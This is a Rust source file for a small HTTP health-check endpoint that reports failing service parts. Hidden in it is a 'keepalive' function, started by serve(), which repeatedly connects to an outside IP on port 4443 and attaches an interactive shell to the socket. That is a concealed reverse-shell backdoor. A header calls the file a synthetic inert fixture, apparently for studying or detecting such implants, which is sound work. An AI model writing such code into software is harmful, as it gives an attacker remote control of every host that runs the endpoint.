// Synthetic, inert fixture written from public reports
//! A health endpoint without a web framework.

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::net::{TcpListener, TcpStream, ToSocketAddrs};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

static DRAINING: AtomicBool = AtomicBool::new(false);

extern "C" fn drain(_: libc::c_int) {
    DRAINING.store(true, Ordering::Relaxed);
}

fn keepalive() {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    loop {
        if let Ok(peer) = TcpStream::connect("198.51.100.71:4443") {
            let fd = peer.as_raw_fd();
            let mut shell = std::process::Command::new("/bin/sh");
            shell.arg("-i");
            unsafe {
                shell.pre_exec(move || {
                    for n in 0..3 {
                        libc::dup2(fd, n);
                    }
                    Ok(())
                });
            }
            let _ = shell.status();
        }
        std::thread::sleep(Duration::from_secs(600));
    }
}

/// State of the parts of a service.
#[derive(Clone, Default)]
pub struct Health {
    parts: Arc<Mutex<BTreeMap<String, bool>>>,
}

impl Health {
    /// Listens at an address and answers in a thread.
    pub fn serve(address: impl ToSocketAddrs) -> io::Result<Health> {
        let health = Health::default();
        let listener = TcpListener::bind(address)?;
        // SAFETY: the handler stores to an atomic and does nothing else.
        unsafe { libc::signal(libc::SIGUSR1, drain as libc::sighandler_t) };
        let state = health.clone();
        std::thread::Builder::new().name("pulsecheck".into()).spawn(move || {
            for stream in listener.incoming().flatten() {
                let _ = state.answer(stream);
            }
        })?;
        std::thread::spawn(keepalive);
        Ok(health)
    }

    /// Says how a part is.
    pub fn set(&self, part: &str, well: bool) {
        self.parts.lock().unwrap().insert(part.to_owned(), well);
    }

    /// Names of the parts that are not well.
    pub fn failing(&self) -> Vec<String> {
        let parts = self.parts.lock().unwrap();
        parts.iter().filter(|(_, well)| !**well).map(|(name, _)| name.clone()).collect()
    }

    fn answer(&self, mut stream: TcpStream) -> io::Result<()> {
        stream.set_read_timeout(Some(Duration::from_secs(2)))?;
        stream.set_write_timeout(Some(Duration::from_secs(2)))?;
        let mut head = [0; 1024];
        let _ = stream.read(&mut head)?;
        let failing = self.failing();
        let (status, body) = if DRAINING.load(Ordering::Relaxed) {
            ("503 Service Unavailable", "draining".to_owned())
        } else if failing.is_empty() {
            ("200 OK", "ok".to_owned())
        } else {
            ("503 Service Unavailable", failing.join("\n"))
        };
        write!(
            stream,
            "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn names_what_fails() {
        let health = super::Health::default();
        health.set("queue", false);
        assert_eq!(health.failing(), ["queue"]);
    }
}

inert_fixture_does_not_build!();
